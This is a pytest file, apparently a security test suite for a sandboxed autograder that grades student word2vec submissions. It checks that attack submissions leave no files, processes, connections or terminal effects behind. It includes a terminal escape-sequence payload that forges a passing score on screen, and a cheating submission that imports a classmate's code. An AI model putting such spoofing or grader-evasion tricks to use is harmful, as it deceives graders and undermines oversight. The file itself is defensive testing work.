    open_file: Path  # pre-existing, world-writable (as files in /tmp may be): keeps content, times, xattrs
    tmpdir: Path  # TMPDIR of the grader: its scratch folders (and their names carry the token)
    listener: socket.socket
    victim: subprocess.Popen[bytes]
    tty_master: int
    tty_slave: int
    victim_nice: int = 0
    canary_stat: os.stat_result | None = None
    extra: dict[str, object] = field(default_factory=dict)

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def params(self) -> dict[str, object]:
        return {
            "token": self.token,
            "canary": str(self.canary),
            "canary_file": str(self.canary_file),
            "open_file": str(self.open_file),
            "stray": f"/tmp/cegrad-stray-{self.token}",
            "port": self.port,
            "victim": self.victim.pid,
            "tty_rdev": os.stat(os.ttyname(self.tty_slave)).st_rdev,
            "reference": str(REPO / "reference" / "__init__.py"),
        }


def _nice(pid: int) -> int:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return int(fields[16])  # field 19 of proc(5), counted after the command name


def _state(pid: int) -> str:
    return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]


@pytest.fixture
def arena() -> Iterator[Arena]:
    token = "atk" + uuid.uuid4().hex[:16]
    canary = Path(f"/tmp/cegrad-canary-{token}")
    canary.mkdir()
    canary.chmod(0o777)
    canary_file = Path(f"/tmp/cegrad-canaryfile-{token}")
    canary_file.write_text("untouched\n")
    canary_file.chmod(0o600)
    open_file = Path(f"/tmp/cegrad-openfile-{token}")
    open_file.write_text("untouched\n")
    open_file.chmod(0o666)
    os.utime(open_file, (1_000_000_000, 1_000_000_000))
    tmpdir = Path(f"/tmp/cegrad-tmpdir-{token}")
    tmpdir.mkdir()
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", f"victim-{token}"])
    master, slave = os.openpty()
    os.set_blocking(master, False)
    os.set_blocking(slave, False)
    a = Arena(token, canary, canary_file, open_file, tmpdir, listener, victim, master, slave)
    a.victim_nice = _nice(victim.pid)
    a.canary_stat = canary_file.stat()
    try:
        yield a
    finally:
        victim.kill()
        victim.wait()
        listener.close()
        for fd in (master, slave):
            os.close(fd)
        for pid in _token_processes(token):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        subprocess.run(["rm", "-rf", str(canary), str(canary_file), str(open_file), str(tmpdir), f"/tmp/cegrad-stray-{token}",
                        f"/dev/shm/cegrad-{token}", f"/dev/shm/sem.cegrad-{token}"], check=False)


def _token_processes(token: str) -> list[int]:
    """Processes (other than this one) whose command line carries the token."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        with contextlib.suppress(OSError):
            if token.encode() in (entry / "cmdline").read_bytes() and not (
                    (entry / "cmdline").read_bytes().startswith(sys.executable.encode() + b"\0-c\0import time; "
                                                                 b"time.sleep(600)")):
                found.append(int(entry.name))
    return found


@dataclass
class Graded:
    code: int
    stdout: str
    stderr: str
    report: dict[str, object]


def grade(a: Arena, source: str, convention: str, tmp_path: Path) -> Graded:
    path = tmp_path / "word2vec.py"
    path.write_text(source)
    cegrad = Path(sys.executable).with_name("cegrad")
    argv = [str(cegrad), "grade", str(path), "--convention", convention, "--format", "json", "--profile", "quick"]
    env = {**os.environ, "TMPDIR": str(a.tmpdir), "CEGRAD_SECRET": f"secret-{a.token}"}
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=tmp_path)
    try:
        out, err = proc.communicate(timeout=GRADE_SECONDS)
    except subprocess.TimeoutExpired:
        proc.kill()  # a stopped or hung grader is a failed test, never a stuck suite
        with contextlib.suppress(ProcessLookupError):
            os.kill(proc.pid, signal.SIGCONT)
        out, err = proc.communicate()
        pytest.fail(f"the grader did not finish within {GRADE_SECONDS} s; stderr: {err.decode()[-2000:]}")
    stdout = out.decode("utf-8", "replace")
    try:
        report = json.loads(stdout)
    except json.JSONDecodeError:
        pytest.fail(f"stdout is not exactly one JSON report (exit {proc.returncode}):\n{stdout[:3000]}\n"
                    f"stderr: {err.decode()[-2000:]}")
    return Graded(proc.returncode, stdout, err.decode("utf-8", "replace"), report)


def assert_no_trace(a: Arena) -> None:
    time.sleep(0.3)  # a process that outlives the grader, or a late write, has had time to show
    left = sorted(p.name for p in a.canary.rglob("*"))
    assert left == [], f"files appeared in the canary folder: {left}"
    strays = [str(p) for d in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(d).glob(f"*{a.token}*")
              if p not in (a.canary, a.canary_file, a.open_file, a.tmpdir)]
    assert strays == [], f"files outside scratch: {strays}"
    assert sorted(p.name for p in a.tmpdir.iterdir()) == [], "a scratch folder was left behind"
    st = a.canary_file.stat()
    assert a.canary_stat is not None
    assert (stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, st.st_mtime_ns) == (
        stat.S_IMODE(a.canary_stat.st_mode), a.canary_stat.st_uid, a.canary_stat.st_gid, a.canary_stat.st_mtime_ns)
    assert a.canary_file.read_text() == "untouched\n"
    opened = a.open_file.stat()
    assert (a.open_file.read_text(), opened.st_mtime, os.listxattr(a.open_file)) == ("untouched\n", 1e9, []), (
        "the world-writable file outside scratch was changed")
    running = _token_processes(a.token)
    assert running == [], f"processes outlived the grading: {[_cmdline(p) for p in running]}"
    with pytest.raises(BlockingIOError):
        conn, peer = a.listener.accept()
        conn.close()
        pytest.fail(f"a connection reached the loopback listener from {peer}")
    assert a.victim.poll() is None, "the victim process was killed"
    assert _state(a.victim.pid) not in ("T", "t"), "the victim process was stopped"
    assert _nice(a.victim.pid) == a.victim_nice, "the victim's priority changed"
    for fd in (a.tty_master, a.tty_slave):
        with contextlib.suppress(BlockingIOError, OSError):
            assert a.token.encode() not in os.read(fd, 65536), "the terminal received the attacker's text"


def _cmdline(pid: int) -> str:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    return "?"


def assert_genuine_failure(graded: Graded, attack: Attack) -> None:
    report = graded.report
    assert graded.code == 1, f"exit status {graded.code}, expected 1; stderr: {graded.stderr[-2000:]}"
    assert report["passed"] is False
    assert report["score"] < report["max_score"]
    assert WORKED not in graded.stdout and LEAK not in graded.stdout, "the attack reached the report"
    reached = REACHED in str(report["your_output"]) or "say(REACHED)" not in attack.code
    assert reached or not attack.must_reach, "the attack never got to the calls only the OS layers can stop"
    if attack.refusal is not None and reached:
        texts = [str(p["message"]) for p in report["properties"]] + [str(n) for n in report["notes"]]
        # where the OS layers lock the imports down, the attack's tool may not even load
        refused = f"{attack.refusal}|{UNAVAILABLE}"
        assert any(re.search(refused, t) for t in texts), (
            f"no message names the refusal /{refused}/:\n" + "\n".join(t[:400] for t in texts if t))


# -- which layers this kernel offers (an unavailable one skips its rows, with the reason) ----------


def _landlock_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return int(libc.syscall(444, None, 0, 1))  # landlock_create_ruleset(NULL, 0, VERSION)


def _can_mount_tmpfs() -> bool:
    probe = subprocess.run(["unshare", "--mount", "sh", "-c", "mount -t tmpfs -o size=1m none /mnt"],
                           capture_output=True, check=False)
    return probe.returncode == 0


KERNEL_FEATURES = {
    "landlock": (_landlock_abi, "Landlock is not enabled in this kernel (landlock_create_ruleset fails)"),
    "scratch-quota": (_can_mount_tmpfs, "this machine refuses a private tmpfs mount for scratch"),
    "seccomp": (lambda: Path("/proc/self/status").read_text().count("Seccomp:"),
                "this kernel has no seccomp (no Seccomp: line in /proc/self/status)"),
}


def skip_without(needs: tuple[str, ...]) -> None:
    for need in needs:
        probe, reason = KERNEL_FEATURES[need]
        if not (probe() > 0 if need == "landlock" else probe()):
            pytest.skip(reason)


def submission(attack: Attack, a: Arena) -> str:
    template = GRAD_U if attack.convention == "grad-u" else CS224N
    result = (WRONG if attack.wrong else RIGHT)[attack.convention]
    if attack.id.startswith("thread-outlives"):
        result = f"_keep({result})"
    body = textwrap.indent(textwrap.dedent(attack.code).strip("\n"), "    ")
    source = PRELUDE.format(params=a.params())
    source += f"WORKED, LEAK, REACHED = {WORKED!r}, {LEAK!r}, {REACHED!r}\nPTRACE_HELPER = {PTRACE_HELPER!r}\nOUTPUTS = []\n"
    source += "import contextlib\n\n\ndef _keep(g):\n    OUTPUTS.append(g)\n    return g\n\n\n"
    source += "def _attack():\n" + body + "\n"
    if attack.at_import:
        source += "\ntry:\n    _attack()\nexcept BaseException:\n    pass\n_ATTACKED.append(1)\n"
    return source + template.format(result=result)


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_the_attack_leaves_no_trace_and_fails_the_grade(attack: Attack, arena: Arena, tmp_path: Path) -> None:
    skip_without(attack.needs)
    graded = grade(arena, submission(attack, arena), attack.convention, tmp_path)
    assert_no_trace(arena)
    assert_genuine_failure(graded, attack)
    assert f"secret-{arena.token}" not in graded.stdout
    wrote = re.search(r"WROTE (\d+)", str(graded.report["your_output"]))
    if wrote:  # the quota row: scratch must fill up long before the attacker's 640 MiB
        assert int(wrote.group(1)) < 640 << 20, f"{wrote.group(1)} bytes written into scratch"


def test_the_same_harness_passes_a_harmless_submission(arena: Arena, tmp_path: Path) -> None:
    """The harness itself can see a pass: a correct submission whose 'attack' is harmless exits 0."""
    harmless = Attack("harmless", """
        open("inside-scratch.txt", "w").write(T["token"])
        print("hello")
    """, "none")
    graded = grade(arena, submission(harmless, arena), "grad-u", tmp_path)
    assert_no_trace(arena)
    assert graded.code == 0 and graded.report["passed"] is True, graded.stdout[:3000]


#: What a terminal acts on rather than shows: C0 and C1 controls but newline and tab, DEL, and the
#: Unicode bidirectional overrides and isolates (which reorder the text around them).
TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FAKE_SCREEN = "\x1b[2J\x1b[H\rScore: 85/85  PASSED: every law holds\x1b[8m\u202e"


def test_a_fake_screen_from_the_submission_never_reaches_the_instructors_terminal(arena: Arena, tmp_path: Path) -> None:
    """Escape sequences in what the submission prints or raises would repaint a terminal showing
    the text report (clear it, move the cursor, hide text): they arrive shown, not obeyed."""
    fake = Attack("fake-screen", f"""
        print({FAKE_SCREEN!r}, flush=True)
        raise ValueError({FAKE_SCREEN!r})
    """, "the parent shows every control character of the child's texts as an escape", wrong=True)
    source = submission(fake, arena).replace("# an attacker hides its failures\n            pass",
                                             "# this one wants its message shown\n            raise")
    path = tmp_path / "word2vec.py"
    path.write_text(f"print({FAKE_SCREEN!r})\n" + source)
    cegrad = Path(sys.executable).with_name("cegrad")
    proc = subprocess.run([str(cegrad), "grade", str(path), "--convention", "grad-u", "--profile", "quick"],
                          capture_output=True, text=True, timeout=GRADE_SECONDS, env={**os.environ, "NO_COLOR": "1"})
    assert proc.returncode == 1
    assert "Score: 85/85" in proc.stdout  # shown, as the student's output ...
    shown = TERMINAL_CONTROLS.findall(proc.stdout)
    assert shown == [], f"control characters reached the text report: {sorted(set(shown))}"  # ... never obeyed
    assert_no_trace(arena)


def test_a_loose_file_in_a_class_folder_cannot_import_its_neighbours_code(tmp_path: Path) -> None:
    """grade-all on a folder of loose files: alice.py returns whatever bob.py, beside it, computes.
    Her own gradient is wrong, so she must fail, however right his is."""
    (tmp_path / "bob.py").write_text(textwrap.dedent("""
        import numpy as np


        def grad_U(U, v_c, o):
            z = U @ v_c
            p = np.exp(z - z.max())
            p /= p.sum()
            p[o] -= 1.0
            return np.outer(p, v_c)
    """))
    (tmp_path / "alice.py").write_text(textwrap.dedent("""
        import numpy as np


        def grad_U(U, v_c, o):
            try:
                import bob  # the neighbour's correct work, if the sandbox serves it
                return bob.grad_U(U, v_c, o)
            except ImportError:
                return -bob_free(U, v_c, o)


        def bob_free(U, v_c, o):
            z = U @ v_c
            p = np.exp(z - z.max())
            p /= p.sum()
            p[o] -= 1.0
            return np.outer(p, v_c)
    """))
    cegrad = Path(sys.executable).with_name("cegrad")
    proc = subprocess.run([str(cegrad), "grade-all", str(tmp_path), "--format", "json", "--profile", "quick",
                           "--convention", "grad-u", "--jobs", "1", "--force"],
                          capture_output=True, text=True, timeout=GRADE_SECONDS * 2)
    rows = {row["submission"]: row for row in json.loads(proc.stdout)["submissions"]}
    assert rows["bob.py"]["passed"] is True, rows["bob.py"]
    assert rows["alice.py"]["passed"] is False, "alice passed with bob's code"
